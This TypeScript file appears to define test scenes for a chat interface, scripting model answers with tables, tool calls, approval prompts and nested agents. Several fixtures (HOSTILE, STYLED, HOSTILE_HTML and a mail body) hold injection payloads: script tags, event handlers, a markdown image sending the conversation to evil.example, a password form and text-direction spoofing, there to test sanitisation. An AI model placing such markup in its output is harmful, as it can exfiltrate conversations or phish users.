/** The scenes of the harness, one per thing to look at. */
import { INPUT_SCENES } from "./scenes-input";
import { decisionMessage, RunScript, userMessage } from "./script";
import { ScriptedModel } from "./scripted-model";

/** A fixed state of the chat. */
export interface Scene {
  readonly model: (lang: string) => ScriptedModel;
  readonly play?: (model: ScriptedModel) => void;
  readonly gone?: boolean;
}

const TABLE_AND_CODE = `Here is what the three runs cost, and a function that computes it.

| Model | Tokens | Price |
| :-- | --: | --: |
| small | 12,400 | 0.02 |
| medium | 9,100 | 0.11 |
| large | 7,800 | 0.48 |

1. Load the **usage** of each run.
2. Multiply by the price list (\`prices.json\`).
   - cached tokens cost a *tenth*
3. Sum it up.

\`\`\`python
from dataclasses import dataclass


@dataclass
class Run:
    """One call of a model."""

    tokens: int
    price: float = 0.02  # per thousand


def cost(runs: list[Run]) -> float:
    return sum(run.tokens / 1000 * run.price for run in runs)
\`\`\`

> The large model is *twenty times* as dear. See [the price list](https://example.com/prices).
`;

const HOSTILE = `A **helpful** answer <script>document.title = "owned"</script> with [a link](javascript:document.title='owned') and
[https://bank.example](https://evil.example/login), <img src="https://evil.example/pixel.png?secret=1" onerror="document.title='owned'" alt="chart">

![exfiltrate](https://evil.example/log?q=conversation)

<iframe src="https://evil.example"></iframe><form action="https://evil.example"><input name="password"><button>Log in</button></form>

<div style="position:fixed;inset:0;background:red" onclick="document.title='owned'">covered?</div> <style>body{display:none}</style>

<svg onload="document.title='owned'"><circle r="40"/></svg> <a href="data:text/html,<script>1</script>">data link</a> and \u202egpj.exe\u202c and \u001b[31mred\u001b[0m terminal

A small data image: ![dot](data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAoAAAAKCAYAAACNMs+9AAAAFUlEQVR42mP8z8BQz0AEYBxVSF+FABJADveWkH6oAAAAAElFTkSuQmCC) and Vec<String> in prose.

${"A".repeat(3000)}
`;

function live(script: RunScript, question: string, log = ""): (lang: string) => ScriptedModel {
  return (lang) =>
    new ScriptedModel({
      lang,
      status: { state: "running", detail: "", run_id: script.runId },
      turns: [script.turn(question, { log })],
    });
}

function done(
  script: RunScript,
  question: string,
  extra: Record<string, unknown> = {},
): (lang: string) => ScriptedModel {
  return (lang) => new ScriptedModel({ lang, turns: [script.turn(question, extra)] });
}

const lookup = { city: "Lisbon", unit: "celsius", days: 3 };
const weather = {
  city: "Lisbon",
  days: [
    { day: "Mon", high: 24 },
    { day: "Tue", high: 22 },
    { day: "Wed", high: 26 },
  ],
};

export const SCENES: Readonly<Record<string, Scene>> = {
  empty: {
    model: (lang) =>
      new ScriptedModel({
        lang,
        description: "Answers questions about the weather and remembers what you said.",
      }),
  },
  streaming: {
    model: live(
      new RunScript().text(TABLE_AND_CODE.slice(0, 870), "message", true),
      "What did the three runs cost? Show me how you compute it.",
    ),
  },
  answer: {
    model: done(
      new RunScript().text(TABLE_AND_CODE).end(),
      "What did the three runs cost? Show me how you compute it.",
    ),
  },
  tool: {
    model: done(
      new RunScript()
        .text(
          "The user asks about Lisbon. I should look the weather up rather than guess.",
          "reasoning",
        )
        .tool("get_weather", lookup, weather)
        .tool("add", { a: 2, b: 40 }, 42)
        .text("It will be **22–26 °C** in Lisbon over the next three days, warmest on Wednesday.")
        .end(),
      "How warm will it be in Lisbon?",
      { log: "fetching Lisbon\n3 days\n" },
    ),
  },
  running: {
    model: live(
      new RunScript().text("Let me look.", "reasoning").tool("get_weather", lookup),
      "How warm will it be in Lisbon?",
    ),
  },
  thinking: {
    model: live(
      new RunScript().text("Perhaps I should first find out which", "reasoning", true),
      "Plan my week.",
    ),
  },
  stopped: {
    model: done(
      new RunScript()
        .text(
          "The first thing to know about Lisbon is that it is built on seven hills, and",
          "message",
          true,
        )
        .end("canceled"),
      "Tell me all about Lisbon.",
    ),
  },
  stopping: {
    model: (lang) =>
      new ScriptedModel({
        lang,
        status: {
          state: "stopping",
          detail: "still running in slow_sum(), line 12 of cell 4",
          run_id: "response_1",
        },
        turns: [new RunScript().tool("slow_sum", { n: 1e9 }).turn("Add everything up.")],
      }),
  },
  error: {
    model: done(
      new RunScript()
        .tool("get_weather", lookup, { error: "no such city" }, { status: "failed" })
        .end("failed", {
          error: {
            code: "MODEL_UNREACHABLE",
            message: "The model at 127.0.0.1:8123 did not answer within 30 s. Is it running?",
          },
        }),
      "How warm will it be in Lisbon?",
    ),
  },
  gone: {
    model: done(
      new RunScript().text("It will be **24 °C**.").end(),
      "How warm will it be in Lisbon?",
    ),
    gone: true,
  },
  hostile: {
    model: done(new RunScript().text(HOSTILE).end(), "Summarise this page.\u202e \u001b[2J"),
  },
  notices: {
    model: (lang) => new ScriptedModel({ lang, schema: 2, turns: [] }),
    play: (model) => {
      model.say({
        type: "notice",
        level: "warning",
        text: "The cell failed: the agent of the run before still serves.",
      });
      model.say({
        type: "notice",
        level: "info",
        text: "friday was reloaded; the conversation goes on.",
      });
    },
  },
  media: {
    model: done(
      new RunScript()
        .media({ type: "image", image_url: "https://evil.example/a/very/long/path/picture.png" })
        .media({ type: "file", filename: "report.csv", file_data: "YSxiCjEsMgo=" })
        .media({ type: "data", data: { answer: 42 } })
        .media({ type: "refusal", refusal: "I would rather not." })
        .end(),
      "Show me files.",
    ),
  },
  ...INPUT_SCENES,
  talk: {
    model: (lang) =>
      new ScriptedModel({
        lang,
        turns: [1, 2, 3].map((n) =>
          new RunScript(`response_${n}`).text(TABLE_AND_CODE).end().turn(`Question ${n}`),
        ),
      }),
  },
};

const PATHS = { path: "/data/reports/2025", recursive: true };
const MAIL = {
  to: ["ann@example.com", "bob@example.com"],
  subject: "Reports of 2025 are gone \u202e\u001b[31m",
  body: "<img src=x onerror=alert(1)> ".repeat(30),
};
const ask = (): RunScript =>
  new RunScript()
    .text("The folder holds 214 files. I would remove it now.")
    .ask("c1", "remove_folder", PATHS, "files")
    .end();
const frame = (rows: string[][]): string =>
  `<div><style scoped>.dataframe tbody tr th { vertical-align: top; }</style><table border="1" class="dataframe"><thead><tr style="text-align: right;"><th></th>${["region", "quarter", "units", "revenue", "margin"].map((name) => `<th>${name}</th>`).join("")}</tr></thead><tbody>${rows.map((row, n) => `<tr><th>${n}</th>${row.map((cell) => `<td>${cell}</td>`).join("")}</tr>`).join("")}</tbody></table><p>214 rows × 5 columns</p></div>`;
const FRAME = frame([
  ["North", "Q1", "1204", "18060.50", "0.31"],
  ["North", "Q2", "1388", "20820.00", "0.33"],
  ["South", "Q1", "980", "14112.75", "0.28"],
  ["South", "Q2", "1016", "15240.00", "0.29"],
]);
const BARS = [62, 84, 55, 97, 71, 110]
  .map(
    (high, n) =>
      `<rect x="${46 + n * 56}" y="${150 - high}" width="34" height="${high}" fill="#1f77b4"/>`,
  )
  .join("");
const FIGURE = `<svg xmlns="http://www.w3.org/2000/svg" width="400" height="190" viewBox="0 0 400 190"><rect width="400" height="190" fill="#fff"/>${BARS}<path d="M36 20v130h350" fill="none" stroke="#222"/><text x="170" y="180" font-size="12" font-family="sans-serif">units by month</text></svg>`;
const STYLED = `<style>#t td{color:#fff}.hi{background:#c0392b}.lo{background:#27ae60}</style><table id="t"><tr><td class="hi">0.91</td><td class="lo">0.12</td></tr><tr><td class="lo">0.20</td><td class="hi">0.88</td></tr></table><script>parent.document.title="owned"</script><img src="https://evil.example/pixel.png">`;
const HOSTILE_HTML = `<b>A table</b><script>document.title="owned"</script><img src="https://evil.example/p.png" onerror="document.title='owned'"><table><tr><td onclick="document.title='owned'">${"wide ".repeat(60)}</td></tr></table>`;

Object.assign(SCENES, {
  approval: { model: done(ask(), "Clean up the old reports.") },
  approvals: {
    model: done(
      new RunScript()
        .text("Three things are left to do.")
        .ask("c1", "remove_folder", PATHS, "files")
        .as("postman")
        .ask("c2", "send_mail", MAIL)
        .as()
        .ask("c3", "reboot", {})
        .end(),
      "Clean up the old reports and tell everyone.",
    ),
  },
  "approval-decided": {
    model: (lang: string) =>
      new ScriptedModel({
        lang,
        turns: [
          ask().turn("Clean up the old reports."),
          new RunScript("response_2")
            .result("c1", "remove_folder", { removed: 214 })
            .text("Done. Shall I tell the others?")
            .ask("c2", "send_mail", MAIL)
            .end()
            .turn("", { input: [decisionMessage(["apr_c1", true, { always: true }])] }),
          new RunScript("response_3")
            .result("c2", "send_mail", "refused")
            .text("Then I leave it at that.")
            .ask("c3", "reboot", {})
            .end()
            .turn("", {
              input: [decisionMessage(["apr_c2", false, { reason: "they know already" }])],
            }),
          new RunScript("response_4").text("You are welcome.").end().turn("Thank you."),
        ],
      }),
  },
  "approval-gone": { model: done(ask(), "Clean up the old reports."), gone: true },
  nested: {
    model: done(
      new RunScript()
        .text("I ask two colleagues.")
        .call("c1", "researcher", { topic: "Lisbon in May" })
        .call("c2", "critic", { draft: "v1" })
        .as("Researcher", "c1")
        .text("I look it up.", "reasoning")
        .call("s1", "search", { query: "Lisbon May weather" })
        .as("Critic", "c2")
        .text("The draft is too long.")
        .as("Researcher", "c1")
        .result("s1", "search", ["24 °C", "dry"])
        .text("It is **24 °C** and dry.")
        .as()
        .result("c1", "researcher", "It is **24 °C** and dry.", { duration: 4.2 })
        .result("c2", "critic", "The draft is too long.", { duration: 2.6 })
        .as("Editor")
        .text("Both agree: go in May, and keep it short.")
        .as("研究员")
        .text("同意。")
        .as()
        .text("So May it is.")
        .end(),
      "When should we go to Lisbon?",
    ),
  },
  "nested-running": {
    model: live(
      new RunScript()
        .call("c1", "researcher", { topic: "Lisbon in May" })
        .as("Researcher", "c1")
        .text("I look it up.")
        .call("s1", "search", { query: "Lisbon May weather" }),
      "When should we go to Lisbon?",
    ),
  },
  rich: {
    model: done(
      new RunScript()
        .text("The sales by region, and a chart.")
        .media({ type: "text", text: "| region |" }, "d1")
        .call("c1", "plot", { column: "units" })
        .result("c1", "plot", "<Figure size 400x190>", { display: "d2" })
        .media({ type: "text", text: "styled" }, "d3")
        .media({ type: "text", text: "hostile" }, "d4")
        .media(
          { type: "text", text: "**What stands for it** where nothing else can be shown" },
          "d5",
        )
        .end(),
      "How are sales?",
      {
        displays: {
          d1: { data: { "text/html": FRAME, "text/plain": "region" } },
          d2: { data: { "image/svg+xml": FIGURE } },
          d3: { data: { "text/html": STYLED } },
          d4: { data: { "text/html": HOSTILE_HTML } },
          d5: { data: { "application/vnd.unknown+json": {}, "text/html": "<script>1</script>" } },
        },
      },
    ),
  },
  gauge: {
    model: (lang: string) =>
      new ScriptedModel({
        lang,
        turns: [0.42, 0.86].map((share, n) =>
          new RunScript(`response_${n}`)
            .text("Lisbon is lovely in May.")
            .end("completed", {
              usage: {
                input_tokens: 41_210,
                output_tokens: 1_280,
                cost: n ? 0.00004 : 0.0127,
                context: { used: Math.round(128_000 * share), window: 128_000 },
              },
            })
            .turn("Tell me of Lisbon."),
        ),
      }),
  },
} satisfies Record<string, Scene>);

/** A long answer told in many deltas, for measuring frames. */
export function longAnswer(
  tokens: number,
  kind: "prose" | "line" | "code" | "list" | "table",
): string[] {
  const words = "the quick brown fox jumps over the lazy dog and then it rests".split(" ");
  const all: string[] =
    kind === "code" ? ["```python\n"] : kind === "table" ? ["| a | b |\n| - | - |\n"] : [];
  for (let i = 0; i < tokens; i++) {
    const word = words[i % words.length] ?? "";
    if (kind === "line") all.push(word);
    else if (kind === "code") all.push(i % 9 === 8 ? "\n" : `${word}(${i}) `);
    else if (kind === "list") all.push(i % 12 === 0 ? `\n- **${word}** ` : `${word} `);
    else if (kind === "table")
      all.push(i % 8 === 0 ? `${i ? "|\n" : ""}| ${word} ` : i % 8 === 4 ? "| " : `${word} `);
    else all.push(i % 80 === 79 ? ".\n\n" : i % 160 === 40 ? `**${word}** ` : `${word} `);
  }
  return all;
}

export { RunScript, userMessage };
